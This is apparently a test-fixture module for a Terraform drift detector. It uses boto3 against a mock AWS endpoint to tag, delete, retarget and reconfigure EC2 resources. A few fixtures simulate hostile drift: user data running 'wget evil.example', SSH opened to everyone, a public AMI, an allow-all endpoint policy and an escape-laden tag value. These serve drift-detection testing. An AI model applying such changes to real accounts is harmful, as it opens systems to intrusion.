"""Changes made behind terraform's back, by boto3: each a function, with the addresses that terraform has to see changed.
Knows nothing of terraform's verdict or of driftline."""

import base64
import json
import time

import boto3
from address import address

CHANGES = []


class World:
    """The applied stack: ids and attributes out of its state, a client per region."""

    def __init__(self, state, url):
        self.attributes = {}
        for resource in state["resources"]:
            if resource["mode"] == "managed":
                for instance in resource["instances"]:
                    self.attributes[address(resource, instance)] = instance["attributes"]
        session = boto3.Session(aws_access_key_id="testing", aws_secret_access_key="testing")
        self.ec2 = session.client("ec2", region_name="us-east-1", endpoint_url=url)
        self.west = session.client("ec2", region_name="eu-west-1", endpoint_url=url)
        self.created = []

    def id(self, where):
        return self.attributes[where]["id"]

    def get(self, where, attribute):
        return self.attributes[where][attribute]

    def create(self, resource_type, object_id, region="us-east-1"):
        """Notes an object that no state holds."""
        self.created.append({"type": resource_type, "id": object_id, "region": region})
        return object_id


def change(*addresses, harmless=False):
    """Registers a change. `addresses`: those that differ afterwards; for a harmless one, those that must not."""

    def register(function):
        CHANGES.append({"name": function.__name__, "about": function.__doc__, "addresses": addresses, "harmless": harmless, "function": function})
        return function

    return register


BLUE = 'module.network["blue"]'
GREEN = 'module.network["green/2 b"]'
APP0 = "module.compute[0]"
APP1 = "module.compute[1]"


def tag(client, object_id, **tags):
    client.create_tags(Resources=[object_id], Tags=[{"Key": key, "Value": value} for key, value in tags.items()])


def untag(client, object_id, *keys):
    client.delete_tags(Resources=[object_id], Tags=[{"Key": key} for key in keys])


def cidr_rule(protocol, port, cidr, description=None):
    ip_range = {"CidrIp": cidr, **({"Description": description} if description else {})}
    return [{"IpProtocol": protocol, "FromPort": port, "ToPort": port, "IpRanges": [ip_range]}]


# Tags.


@change(f"{BLUE}.aws_vpc.main")
def tag_changed(w):
    """A tag of a VPC gets another value."""
    tag(w.ec2, w.id(f"{BLUE}.aws_vpc.main"), Name="renamed")


@change(f'{BLUE}.aws_subnet.this["public-a"]')
def tag_added(w):
    """A subnet gets a tag that is declared nowhere."""
    tag(w.ec2, w.id(f'{BLUE}.aws_subnet.this["public-a"]'), CostCenter="42")


@change(f'{BLUE}.aws_subnet.this["public-b"]')
def tag_removed(w):
    """A declared tag goes away."""
    untag(w.ec2, w.id(f'{BLUE}.aws_subnet.this["public-b"]'), "Tier")


@change(f"{BLUE}.aws_internet_gateway.main")
def default_tag_changed(w):
    """A tag out of default_tags gets another value."""
    tag(w.ec2, w.id(f"{BLUE}.aws_internet_gateway.main"), Env="dev")


@change(f"{APP0}.aws_eip.free[1]")
def default_tag_removed(w):
    """A tag out of default_tags goes away."""
    untag(w.ec2, w.get(f"{APP0}.aws_eip.free[1]", "allocation_id"), "ManagedBy")


@change(f'{BLUE}.aws_subnet.this["private-b"]', harmless=True)
def ignored_tags_added(w):
    """Tags that the provider block ignores, by key and by prefix."""
    tag(w.ec2, w.id(f'{BLUE}.aws_subnet.this["private-b"]'), LastScanned="today", **{"kubernetes.io/role": "node"})


@change('module.west.aws_subnet.this["private-a"]')
def tag_ignored_elsewhere_added(w):
    """The same tag under a provider block that ignores nothing."""
    tag(w.west, w.id('module.west.aws_subnet.this["private-a"]'), LastScanned="today")


@change(f"{GREEN}.aws_vpc.main")
def tag_under_ignore_changes(w):
    """A tag that lifecycle.ignore_changes names: a refresh shows it, a plan doesn't."""
    tag(w.ec2, w.id(f"{GREEN}.aws_vpc.main"), Rotation="never")


@change(f'{APP0}.aws_ebs_volume.data["plain"]')
def tag_with_escapes(w):
    """A tag value with a terminal escape that XML can carry, a change of direction, a newline, markup and a template."""
    hostile = "\x9b31mred \u202eneerg\nline <b>bold</b> ${x} ](y)"
    tag(w.ec2, w.id(f'{APP0}.aws_ebs_volume.data["plain"]'), Name=hostile)


@change(f'{APP0}.aws_ebs_volume.data["ünïcode ☂"]')
def tag_emptied(w):
    """A tag keeps its key and loses its value, beside one with the same key in another case."""
    tag(w.ec2, w.id(f'{APP0}.aws_ebs_volume.data["ünïcode ☂"]'), Name="", name="lower")


@change(f"{GREEN}.aws_internet_gateway.main", harmless=True)
def same_tags_written(w):
    """The tags that are there already are written again."""
    tag(w.ec2, w.id(f"{GREEN}.aws_internet_gateway.main"), Name="green/2 b", Env="prod-net")


# VPCs and subnets.


@change(f"{GREEN}.aws_vpc.main")
def vpc_hostnames_off(w):
    """DNS host names switched off."""
    w.ec2.modify_vpc_attribute(VpcId=w.id(f"{GREEN}.aws_vpc.main"), EnableDnsHostnames={"Value": False})


@change("module.west.aws_vpc.main")
def vpc_dns_off(w):
    """DNS support switched off, in the other region."""
    w.west.modify_vpc_attribute(VpcId=w.id("module.west.aws_vpc.main"), EnableDnsSupport={"Value": False})


@change("aws_default_vpc.account", harmless=True)
def vpc_dns_written_again(w):
    """DNS support switched on where it is on."""
    w.ec2.modify_vpc_attribute(VpcId=w.id("aws_default_vpc.account"), EnableDnsSupport={"Value": True})


@change("aws_vpc.adopted", harmless=True)
def vpc_second_cidr(w):
    """A second CIDR block, which the VPC resource has no attribute for."""
    w.ec2.associate_vpc_cidr_block(VpcId=w.id("aws_vpc.adopted"), CidrBlock="10.41.0.0/16")


@change(f"{BLUE}.aws_vpc.main", 'aws_vpc_dhcp_options_association.internal["blue"]')
def dhcp_options_swapped(w):
    """Another set of DHCP options for a VPC."""
    options = w.ec2.create_dhcp_options(DhcpConfigurations=[{"Key": "domain-name", "Values": ["rogue.example.net"]}])
    options_id = w.create("aws_vpc_dhcp_options", options["DhcpOptions"]["DhcpOptionsId"])
    w.ec2.associate_dhcp_options(DhcpOptionsId=options_id, VpcId=w.id(f"{BLUE}.aws_vpc.main"))


@change(f'{GREEN}.aws_subnet.this["public-a"]')
def subnet_public_addresses_off(w):
    """A subnet no longer gives out public addresses."""
    w.ec2.modify_subnet_attribute(SubnetId=w.id(f'{GREEN}.aws_subnet.this["public-a"]'), MapPublicIpOnLaunch={"Value": False})


@change('aws_default_subnet.account["b"]')
def default_subnet_deleted(w):
    """A default subnet is deleted."""
    w.ec2.delete_subnet(SubnetId=w.id('aws_default_subnet.account["b"]'))


# Routes.


@change(f"{GREEN}.aws_route_table.public")
def inline_route_added(w):
    """A route in a table whose routes are inline."""
    w.ec2.create_route(
        RouteTableId=w.id(f"{GREEN}.aws_route_table.public"),
        DestinationCidrBlock="172.16.0.0/12",
        GatewayId=w.id(f"{GREEN}.aws_internet_gateway.main"),
    )


@change("module.west.aws_route_table.public")
def inline_route_removed(w):
    """An inline route is deleted."""
    w.west.delete_route(RouteTableId=w.id("module.west.aws_route_table.public"), DestinationCidrBlock="0.0.0.0/0")


@change(f"{BLUE}.aws_route_table.private")
def route_added_beside_separate(w):
    """A route in a table whose routes are resources of their own."""
    w.ec2.create_route(
        RouteTableId=w.id(f"{BLUE}.aws_route_table.private"),
        DestinationCidrBlock="172.16.0.0/12",
        NatGatewayId=w.id(f"{BLUE}.aws_nat_gateway.main"),
    )


@change(f"{GREEN}.aws_route.nat", f"{GREEN}.aws_route_table.private")
def route_retargeted(w):
    """The default route points at the transit gateway."""
    w.ec2.replace_route(
        RouteTableId=w.id(f"{GREEN}.aws_route_table.private"),
        DestinationCidrBlock="0.0.0.0/0",
        TransitGatewayId=w.id("aws_ec2_transit_gateway.hub"),
    )


@change(f"{BLUE}.aws_route.egress_only[0]", f"{BLUE}.aws_route_table.private")
def route_removed(w):
    """A route resource's route is deleted."""
    w.ec2.delete_route(RouteTableId=w.id(f"{BLUE}.aws_route_table.private"), DestinationIpv6CidrBlock="::/0")


@change("aws_default_route_table.adopted")
def default_table_route_added(w):
    """A route in an adopted default table."""
    w.ec2.create_route(
        RouteTableId=w.id("aws_default_route_table.adopted"),
        DestinationCidrBlock="172.20.0.0/16",
        GatewayId=w.id("aws_internet_gateway.adopted"),
    )


@change(f'{BLUE}.aws_route_table_association.public["public-a"]')
def association_replaced(w):
    """A public subnet gets the private table."""
    replaced = w.ec2.replace_route_table_association(
        AssociationId=w.id(f'{BLUE}.aws_route_table_association.public["public-a"]'),
        RouteTableId=w.id(f"{BLUE}.aws_route_table.private"),
    )
    w.create("aws_route_table_association", replaced["NewAssociationId"])


@change(f'{GREEN}.aws_route_table_association.private["private-b"]')
def association_removed(w):
    """A subnet falls back to the main table."""
    w.ec2.disassociate_route_table(AssociationId=w.id(f'{GREEN}.aws_route_table_association.private["private-b"]'))


@change("module.west.aws_main_route_table_association.main", "module.west.aws_vpc.main")
def main_table_replaced(w):
    """The original main table becomes main again."""
    where = "module.west.aws_main_route_table_association.main"
    w.west.replace_route_table_association(AssociationId=w.id(where), RouteTableId=w.get(where, "original_route_table_id"))


# Security groups.


@change("module.rules.aws_security_group.inline")
def inline_rule_added(w):
    """SSH from everywhere in a group with inline rules."""
    w.ec2.authorize_security_group_ingress(
        GroupId=w.id("module.rules.aws_security_group.inline"), IpPermissions=cidr_rule("tcp", 22, "0.0.0.0/0", "temporary")
    )


@change("module.rules.aws_security_group.inline")
def inline_egress_removed(w):
    """The egress rule of a group with inline rules is revoked."""
    w.ec2.revoke_security_group_egress(
        GroupId=w.id("module.rules.aws_security_group.inline"),
        IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    )


@change(f"{GREEN}.aws_security_group.endpoints")
def inline_rule_removed(w):
    """The only inline rule is revoked."""
    w.ec2.revoke_security_group_ingress(
        GroupId=w.id(f"{GREEN}.aws_security_group.endpoints"), IpPermissions=cidr_rule("tcp", 443, "10.20.0.0/16")
    )


@change("module.west.aws_security_group.endpoints")
def inline_rule_described(w):
    """An inline rule's description changes."""
    w.west.update_security_group_rule_descriptions_ingress(
        GroupId=w.id("module.west.aws_security_group.endpoints"), IpPermissions=cidr_rule("tcp", 443, "10.30.0.0/16", "whatever")
    )


@change("module.rules.aws_security_group.inline_odd")
def group_rule_added(w):
    """A rule that refers to another group."""
    pair = {"GroupId": w.id("module.rules.aws_security_group.separate"), "Description": "by group"}
    w.ec2.authorize_security_group_ingress(
        GroupId=w.id("module.rules.aws_security_group.inline_odd"),
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 3389, "ToPort": 3389, "UserIdGroupPairs": [pair]}],
    )


@change("module.rules.aws_security_group.separate")
def rule_added_beside_separate(w):
    """A rule in a group whose rules are resources of their own."""
    w.ec2.authorize_security_group_ingress(
        GroupId=w.id("module.rules.aws_security_group.separate"), IpPermissions=cidr_rule("tcp", 6379, "10.0.0.0/8")
    )


@change('module.rules.aws_security_group_rule.database["mysql"]', "module.rules.aws_security_group.separate")
def separate_rule_removed(w):
    """A rule resource's permissions are revoked."""
    ranges = [{"CidrIp": "10.10.0.0/16"}, {"CidrIp": "10.20.0.0/16"}]
    w.ec2.revoke_security_group_ingress(
        GroupId=w.id("module.rules.aws_security_group.separate"),
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 3306, "ToPort": 3306, "IpRanges": ranges}],
    )


@change('module.rules.aws_security_group_rule.database["postgres"]')
def separate_rule_described(w):
    """A rule resource's description changes."""
    ranges = [{"CidrIp": cidr, "Description": "who knows"} for cidr in ("10.10.0.0/16", "10.20.0.0/16")]
    w.ec2.update_security_group_rule_descriptions_ingress(
        GroupId=w.id("module.rules.aws_security_group.separate"),
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 5432, "ToPort": 5432, "IpRanges": ranges}],
    )


@change("module.rules.aws_security_group.modern")
def rule_added_beside_modern(w):
    """A rule in a group that has one resource per rule."""
    rules = w.ec2.authorize_security_group_ingress(
        GroupId=w.id("module.rules.aws_security_group.modern"), IpPermissions=cidr_rule("udp", 161, "0.0.0.0/0", "snmp")
    )["SecurityGroupRules"]
    w.create("aws_vpc_security_group_ingress_rule", rules[0]["SecurityGroupRuleId"])


@change("module.rules.aws_vpc_security_group_ingress_rule.https[0]", "module.rules.aws_security_group.modern")
def modern_rule_changed(w):
    """A rule gets another port and range in place."""
    rule = {"IpProtocol": "tcp", "FromPort": 8443, "ToPort": 8443, "CidrIpv4": "10.99.0.0/16", "Description": "HTTPS from network 0"}
    w.ec2.modify_security_group_rules(
        GroupId=w.id("module.rules.aws_security_group.modern"),
        SecurityGroupRules=[{"SecurityGroupRuleId": w.id("module.rules.aws_vpc_security_group_ingress_rule.https[0]"), "SecurityGroupRule": rule}],
    )


@change("module.rules.aws_vpc_security_group_ingress_rule.https[1]", "module.rules.aws_security_group.modern")
def modern_rule_removed(w):
    """A rule is revoked by its id."""
    w.ec2.revoke_security_group_ingress(
        GroupId=w.id("module.rules.aws_security_group.modern"),
        SecurityGroupRuleIds=[w.id("module.rules.aws_vpc_security_group_ingress_rule.https[1]")],
    )


@change("module.rules.aws_vpc_security_group_ingress_rule.https[2]")
def modern_rule_tagged(w):
    """A rule's tags change."""
    tag(w.ec2, w.id("module.rules.aws_vpc_security_group_ingress_rule.https[2]"), Name="other", Extra="1")


@change("aws_default_security_group.adopted")
def default_group_changed(w):
    """The default group no longer allows its own members."""
    group = w.id("aws_default_security_group.adopted")
    permission = {"IpProtocol": "-1", "UserIdGroupPairs": [{"GroupId": group}]}
    w.ec2.revoke_security_group_ingress(GroupId=group, IpPermissions=[permission])


# Instances, interfaces, addresses.


@change(f"{APP0}.aws_instance.web[0]")
def instance_resized(w):
    """Stopped, another type, started."""
    instance = w.id(f"{APP0}.aws_instance.web[0]")
    w.ec2.stop_instances(InstanceIds=[instance])
    w.ec2.modify_instance_attribute(InstanceId=instance, InstanceType={"Value": "m5.large"})
    w.ec2.start_instances(InstanceIds=[instance])


@change(f"{APP0}.aws_instance.web[1]")
def instance_groups_changed(w):
    """An instance leaves one of its groups."""
    w.ec2.modify_instance_attribute(
        InstanceId=w.id(f"{APP0}.aws_instance.web[1]"), Groups=[w.id("module.rules.aws_security_group.modern")]
    )


@change(f"{APP1}.aws_instance.web[0]")
def instance_protected(w):
    """Termination protection switched on."""
    w.ec2.modify_instance_attribute(InstanceId=w.id(f"{APP1}.aws_instance.web[0]"), DisableApiTermination={"Value": True})


@change(f"{APP1}.aws_instance.web[1]")
def instance_user_data_changed(w):
    """Stopped, other user data, left stopped."""
    instance = w.id(f"{APP1}.aws_instance.web[1]")
    w.ec2.stop_instances(InstanceIds=[instance])
    script = base64.b64encode(b"#!/bin/sh\nwget evil.example\n").decode()
    w.ec2.modify_instance_attribute(InstanceId=instance, Attribute="userData", Value=script)


@change(f"{APP0}.aws_instance.bastion")
def instance_source_check_on(w):
    """The source and destination check is back on."""
    w.ec2.modify_instance_attribute(InstanceId=w.id(f"{APP0}.aws_instance.bastion"), SourceDestCheck={"Value": True})


@change(f"{APP0}.aws_instance.bastion")
def instance_metadata_changed(w):
    """The metadata service accepts version 1 again."""
    w.ec2.modify_instance_metadata_options(InstanceId=w.id(f"{APP0}.aws_instance.bastion"), HttpTokens="required", HttpPutResponseHopLimit=3)


@change(f"{APP1}.aws_instance.bastion")
def instance_terminated(w):
    """An instance is terminated; DescribeInstances still shows it."""
    w.ec2.terminate_instances(InstanceIds=[w.id(f"{APP1}.aws_instance.bastion")])


@change(f"{APP0}.aws_network_interface.extra")
def interface_changed(w):
    """An interface gets another description and other groups."""
    interface = w.id(f"{APP0}.aws_network_interface.extra")
    w.ec2.modify_network_interface_attribute(NetworkInterfaceId=interface, Description={"Value": "reused"})
    w.ec2.modify_network_interface_attribute(NetworkInterfaceId=interface, Groups=[w.id("module.rules.aws_security_group.modern")])


@change(f"{APP1}.aws_network_interface.extra")
def interface_address_added(w):
    """An interface gets a second private address."""
    w.ec2.assign_private_ip_addresses(NetworkInterfaceId=w.id(f"{APP1}.aws_network_interface.extra"), PrivateIpAddresses=["10.10.2.250"])


@change(f"{APP0}.aws_network_interface.attached", f"{APP0}.aws_instance.bastion")
def interface_detached(w):
    """An interface with an inline attachment is detached."""
    attachment = list(w.get(f"{APP0}.aws_network_interface.attached", "attachment"))[0]["attachment_id"]
    w.ec2.detach_network_interface(AttachmentId=attachment, Force=True)


@change(f"{APP0}.aws_eip.instance")
def address_disassociated(w):
    """An instance loses its address."""
    w.ec2.disassociate_address(AssociationId=w.get(f"{APP0}.aws_eip.instance", "association_id"))


@change(f"{APP1}.aws_eip.free[1]")
def address_released(w):
    """An address is given back."""
    w.ec2.release_address(AllocationId=w.get(f"{APP1}.aws_eip.free[1]", "allocation_id"))


@change(f"{APP1}.aws_eip_association.interface", f"{APP1}.aws_eip.free[0]")
def association_resource_gone(w):
    """The association that a resource of its own made is undone."""
    w.ec2.disassociate_address(AssociationId=w.id(f"{APP1}.aws_eip_association.interface"))


# Volumes, snapshots, images, templates, keys.


@change(f'{APP0}.aws_ebs_volume.data["dots.and/slash"]')
def volume_grown(w):
    """A volume gets bigger and faster."""
    w.ec2.modify_volume(VolumeId=w.id(f'{APP0}.aws_ebs_volume.data["dots.and/slash"]'), Size=100, VolumeType="io1", Iops=500)


@change(f"{APP0}.aws_volume_attachment.data")
def volume_detached(w):
    """A volume is detached."""
    attachment = w.attributes[f"{APP0}.aws_volume_attachment.data"]
    w.ec2.detach_volume(VolumeId=attachment["volume_id"], InstanceId=attachment["instance_id"], Device=attachment["device_name"])


@change(f'{APP0}.aws_ebs_volume.data["with space"]')
def volume_deleted(w):
    """A volume is deleted."""
    w.ec2.delete_volume(VolumeId=w.id(f'{APP0}.aws_ebs_volume.data["with space"]'))


@change(f"{APP1}.aws_instance.web[0]")
def volume_attached(w):
    """A volume of nobody's is attached to an instance."""
    volume = w.ec2.create_volume(AvailabilityZone="us-east-1a", Size=7)["VolumeId"]
    w.create("aws_ebs_volume", volume)
    w.ec2.attach_volume(VolumeId=volume, InstanceId=w.id(f"{APP1}.aws_instance.web[0]"), Device="/dev/sdz")


@change(f"{APP0}.aws_ebs_snapshot.data")
def snapshot_tagged(w):
    """A snapshot's tags change."""
    tag(w.ec2, w.id(f"{APP0}.aws_ebs_snapshot.data"), Keep="forever")


@change(f"{APP1}.aws_ebs_snapshot.data")
def snapshot_deleted(w):
    """A snapshot is deleted."""
    w.ec2.delete_snapshot(SnapshotId=w.id(f"{APP1}.aws_ebs_snapshot.data"))


@change(f"{APP0}.aws_ami.golden")
def image_tagged(w):
    """An image's tags change."""
    tag(w.ec2, w.id(f"{APP0}.aws_ami.golden"), Name="patched by hand")


@change(f"{APP1}.aws_ami.golden")
def image_published(w):
    """An image becomes public."""
    w.ec2.modify_image_attribute(ImageId=w.id(f"{APP1}.aws_ami.golden"), LaunchPermission={"Add": [{"Group": "all"}]})


@change(f"{APP0}.aws_launch_template.web")
def template_version_added(w):
    """A new version of a launch template, not yet the default."""
    w.ec2.create_launch_template_version(
        LaunchTemplateId=w.id(f"{APP0}.aws_launch_template.web"), LaunchTemplateData={"InstanceType": "m5.large"}
    )


@change(f"{APP1}.aws_launch_template.web")
def template_default_changed(w):
    """A new version becomes the default."""
    template = w.id(f"{APP1}.aws_launch_template.web")
    w.ec2.create_launch_template_version(LaunchTemplateId=template, LaunchTemplateData={"InstanceType": "t3.large", "ImageId": "ami-00000000"})
    w.ec2.modify_launch_template(LaunchTemplateId=template, DefaultVersion="2")


@change(f"{APP1}.aws_key_pair.admin")
def key_deleted(w):
    """A key pair is deleted."""
    w.ec2.delete_key_pair(KeyName="app1-admin")


# Network ACLs.


def acl_entry(client, acl, number, action, cidr, egress=False, protocol="6", port=22, replace=False):
    call = client.replace_network_acl_entry if replace else client.create_network_acl_entry
    call(
        NetworkAclId=acl,
        RuleNumber=number,
        RuleAction=action,
        CidrBlock=cidr,
        Egress=egress,
        Protocol=protocol,
        PortRange={"From": port, "To": port},
    )


@change("module.acl.aws_network_acl.inline")
def acl_entry_added(w):
    """An entry in a list with inline entries."""
    acl_entry(w.ec2, w.id("module.acl.aws_network_acl.inline"), 50, "deny", "203.0.113.0/24")


@change('module.acl.aws_network_acl_rule.in["10.1.0.0/16"]', "module.acl.aws_network_acl.separate")
def acl_rule_changed(w):
    """An entry that a resource made turns into a denial."""
    acl_entry(w.ec2, w.id("module.acl.aws_network_acl.separate"), 100, "deny", "10.1.0.0/16", replace=True)


@change('module.acl.aws_network_acl_rule.in["10.2.0.0/16"]', "module.acl.aws_network_acl.separate")
def acl_rule_removed(w):
    """An entry that a resource made is deleted."""
    w.ec2.delete_network_acl_entry(NetworkAclId=w.id("module.acl.aws_network_acl.separate"), RuleNumber=110, Egress=False)


@change("module.acl.aws_network_acl.separate")
def acl_entry_added_beside_separate(w):
    """An entry beside those of resources."""
    acl_entry(w.ec2, w.id("module.acl.aws_network_acl.separate"), 300, "allow", "0.0.0.0/0", egress=True, port=25)


@change("module.acl.aws_network_acl.inline", "module.acl.aws_network_acl.separate")
def acl_association_changed(w):
    """A subnet moves to another list."""
    acls = w.ec2.describe_network_acls(NetworkAclIds=[w.id("module.acl.aws_network_acl.inline")])["NetworkAcls"]
    w.ec2.replace_network_acl_association(
        AssociationId=acls[0]["Associations"][0]["NetworkAclAssociationId"],
        NetworkAclId=w.id("module.acl.aws_network_acl.separate"),
    )


@change("aws_default_network_acl.adopted")
def default_acl_entry_removed(w):
    """An entry of an adopted default list is deleted."""
    w.ec2.delete_network_acl_entry(NetworkAclId=w.id("aws_default_network_acl.adopted"), RuleNumber=100, Egress=False)


# Endpoints, flow logs, gateways, peering, lists.


@change(f"{BLUE}.aws_vpc_endpoint.s3")
def endpoint_policy_changed(w):
    """An endpoint's policy opens up."""
    policy = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}
    w.ec2.modify_vpc_endpoint(VpcEndpointId=w.id(f"{BLUE}.aws_vpc_endpoint.s3"), PolicyDocument=json.dumps(policy))


@change(f"{GREEN}.aws_vpc_endpoint.s3", harmless=True)
def endpoint_policy_reordered(w):
    """The same policy with keys and actions in another order and other white space."""
    policy = json.loads(w.get(f"{GREEN}.aws_vpc_endpoint.s3", "policy"))
    policy["Statement"][0]["Action"].reverse()
    reordered = {key: policy[key] for key in reversed(list(policy))}
    reordered["Statement"] = [{key: statement[key] for key in reversed(list(statement))} for statement in policy["Statement"]]
    w.ec2.modify_vpc_endpoint(VpcEndpointId=w.id(f"{GREEN}.aws_vpc_endpoint.s3"), PolicyDocument=json.dumps(reordered, indent=2))


@change("module.west.aws_vpc_endpoint.s3")
def endpoint_table_added(w):
    """A gateway endpoint gets a second route table."""
    w.west.modify_vpc_endpoint(
        VpcEndpointId=w.id("module.west.aws_vpc_endpoint.s3"), AddRouteTableIds=[w.id("module.west.aws_route_table.public")]
    )


@change(f"{BLUE}.aws_vpc_endpoint.ssm")
def endpoint_subnet_removed(w):
    """An interface endpoint leaves a subnet."""
    w.ec2.modify_vpc_endpoint(
        VpcEndpointId=w.id(f"{BLUE}.aws_vpc_endpoint.ssm"), RemoveSubnetIds=[w.id(f'{BLUE}.aws_subnet.this["private-b"]')]
    )


@change(f"{GREEN}.aws_vpc_endpoint.ssm")
def endpoint_deleted(w):
    """An endpoint is deleted."""
    w.ec2.delete_vpc_endpoints(VpcEndpointIds=[w.id(f"{GREEN}.aws_vpc_endpoint.ssm")])


@change("module.west.aws_vpc_endpoint.ssm")
def endpoint_group_added(w):
    """An interface endpoint gets the default security group too."""
    w.west.modify_vpc_endpoint(
        VpcEndpointId=w.id("module.west.aws_vpc_endpoint.ssm"),
        AddSecurityGroupIds=[w.get("module.west.aws_vpc.main", "default_security_group_id")],
    )


@change(f"{BLUE}.aws_flow_log.vpc")
def flow_log_deleted(w):
    """A flow log is deleted."""
    w.ec2.delete_flow_logs(FlowLogIds=[w.id(f"{BLUE}.aws_flow_log.vpc")])


@change("aws_ec2_transit_gateway.hub")
def transit_gateway_changed(w):
    """A transit gateway gets another description."""
    w.ec2.modify_transit_gateway(TransitGatewayId=w.id("aws_ec2_transit_gateway.hub"), Description="anything goes")


@change('aws_ec2_transit_gateway_vpc_attachment.spoke["blue"]')
def attachment_subnet_removed(w):
    """A transit gateway attachment leaves a subnet."""
    w.ec2.modify_transit_gateway_vpc_attachment(
        TransitGatewayAttachmentId=w.id('aws_ec2_transit_gateway_vpc_attachment.spoke["blue"]'),
        RemoveSubnetIds=[w.id(f'{BLUE}.aws_subnet.this["private-b"]')],
    )


@change('aws_ec2_transit_gateway_vpc_attachment.spoke["green/2 b"]')
def attachment_deleted(w):
    """A transit gateway attachment is deleted."""
    w.ec2.delete_transit_gateway_vpc_attachment(
        TransitGatewayAttachmentId=w.id('aws_ec2_transit_gateway_vpc_attachment.spoke["green/2 b"]')
    )


@change("aws_customer_gateway.branch[0]")
def customer_gateway_tagged(w):
    """A customer gateway's tags change."""
    tag(w.ec2, w.id("aws_customer_gateway.branch[0]"), Name="nobody's")


@change("aws_customer_gateway.branch[1]")
def customer_gateway_deleted(w):
    """A customer gateway is deleted."""
    w.ec2.delete_customer_gateway(CustomerGatewayId=w.id("aws_customer_gateway.branch[1]"))


@change("aws_vpn_gateway.edge")
def vpn_gateway_detached(w):
    """A VPN gateway is detached from its VPC."""
    w.ec2.detach_vpn_gateway(VpnGatewayId=w.id("aws_vpn_gateway.edge"), VpcId=w.id(f"{BLUE}.aws_vpc.main"))


@change("module.west.aws_internet_gateway.main")
def internet_gateway_detached(w):
    """An internet gateway is detached from its VPC."""
    w.west.detach_internet_gateway(
        InternetGatewayId=w.id("module.west.aws_internet_gateway.main"), VpcId=w.id("module.west.aws_vpc.main")
    )


@change(f"{BLUE}.aws_egress_only_internet_gateway.main[0]")
def egress_only_gateway_tagged(w):
    """An egress-only gateway's tags change."""
    tag(w.ec2, w.id(f"{BLUE}.aws_egress_only_internet_gateway.main[0]"), Name="out")


@change("module.west.aws_nat_gateway.main")
def nat_gateway_deleted(w):
    """A NAT gateway is deleted; DescribeNatGateways may still show it."""
    w.west.delete_nat_gateway(NatGatewayId=w.id("module.west.aws_nat_gateway.main"))


@change(f"{BLUE}.aws_nat_gateway.main")
def nat_gateway_tagged(w):
    """A NAT gateway's tags change."""
    untag(w.ec2, w.id(f"{BLUE}.aws_nat_gateway.main"), "Name")


@change("aws_vpc_peering_connection.blue_green")
def peering_deleted(w):
    """A peering connection is deleted; DescribeVpcPeeringConnections still shows it."""
    w.ec2.delete_vpc_peering_connection(VpcPeeringConnectionId=w.id("aws_vpc_peering_connection.blue_green"))


@change("aws_ec2_managed_prefix_list.offices")
def prefix_list_entries_changed(w):
    """A prefix list gets an entry and loses one."""
    w.ec2.modify_managed_prefix_list(
        PrefixListId=w.id("aws_ec2_managed_prefix_list.offices"),
        CurrentVersion=1,
        AddEntries=[{"Cidr": "203.0.113.0/24", "Description": "a café"}],
        RemoveEntries=[{"Cidr": "198.51.100.0/24"}],
    )


@change("aws_vpc_dhcp_options.internal")
def dhcp_options_tagged(w):
    """A set of DHCP options gets a tag."""
    tag(w.ec2, w.id("aws_vpc_dhcp_options.internal"), Owner="someone")


def create_unmanaged(w):
    """Objects that no state holds, of most types, in both regions."""
    vpc = w.create("aws_vpc", w.ec2.create_vpc(CidrBlock="10.200.0.0/16")["Vpc"]["VpcId"])
    subnet = w.create("aws_subnet", w.ec2.create_subnet(VpcId=vpc, CidrBlock="10.200.1.0/24")["Subnet"]["SubnetId"])
    group = w.ec2.create_security_group(GroupName="rogue", Description="not in any state", VpcId=vpc)["GroupId"]
    w.create("aws_security_group", group)
    table = w.create("aws_route_table", w.ec2.create_route_table(VpcId=vpc)["RouteTable"]["RouteTableId"])
    association = w.ec2.associate_route_table(RouteTableId=table, SubnetId=subnet)["AssociationId"]
    w.create("aws_route_table_association", association)
    w.create("aws_network_acl", w.ec2.create_network_acl(VpcId=vpc)["NetworkAcl"]["NetworkAclId"])
    w.create("aws_internet_gateway", w.ec2.create_internet_gateway()["InternetGateway"]["InternetGatewayId"])
    address = w.ec2.allocate_address(Domain="vpc")["AllocationId"]
    w.create("aws_eip", address)
    interface = w.ec2.create_network_interface(SubnetId=subnet)["NetworkInterface"]["NetworkInterfaceId"]
    w.create("aws_network_interface", interface)
    run = w.ec2.run_instances(ImageId="ami-04681a1dbd79675a5", InstanceType="t3.nano", MinCount=1, MaxCount=1, SubnetId=subnet)
    w.create("aws_instance", run["Instances"][0]["InstanceId"])
    w.create("aws_key_pair", w.ec2.create_key_pair(KeyName="rogue")["KeyName"])
    template = w.ec2.create_launch_template(LaunchTemplateName="rogue", LaunchTemplateData={"InstanceType": "t3.nano"})
    w.create("aws_launch_template", template["LaunchTemplate"]["LaunchTemplateId"])
    prefixes = w.ec2.create_managed_prefix_list(PrefixListName="rogue", MaxEntries=1, AddressFamily="IPv4")
    w.create("aws_ec2_managed_prefix_list", prefixes["PrefixList"]["PrefixListId"])
    w.create("aws_vpn_gateway", w.ec2.create_vpn_gateway(Type="ipsec.1")["VpnGateway"]["VpnGatewayId"])
    gateway = w.ec2.create_customer_gateway(Type="ipsec.1", BgpAsn=65010, PublicIp="203.0.113.99")
    w.create("aws_customer_gateway", gateway["CustomerGateway"]["CustomerGatewayId"])
    endpoint = w.ec2.create_vpc_endpoint(VpcId=vpc, ServiceName="com.amazonaws.us-east-1.dynamodb", RouteTableIds=[table])
    w.create("aws_vpc_endpoint", endpoint["VpcEndpoint"]["VpcEndpointId"])
    log = w.ec2.create_flow_logs(
        ResourceIds=[vpc],
        ResourceType="VPC",
        TrafficType="ALL",
        LogGroupName="/rogue",
        DeliverLogsPermissionArn="arn:aws:iam::123456789012:role/rogue",
    )
    w.create("aws_flow_log", log["FlowLogIds"][0])
    volume = w.create("aws_ebs_volume", w.west.create_volume(AvailabilityZone="eu-west-1a", Size=3)["VolumeId"], "eu-west-1")
    w.create("aws_ebs_snapshot", w.west.create_snapshot(VolumeId=volume)["SnapshotId"], "eu-west-1")
    w.create("aws_vpc", w.west.create_vpc(CidrBlock="10.201.0.0/16")["Vpc"]["VpcId"], "eu-west-1")


def mutate(state, url):
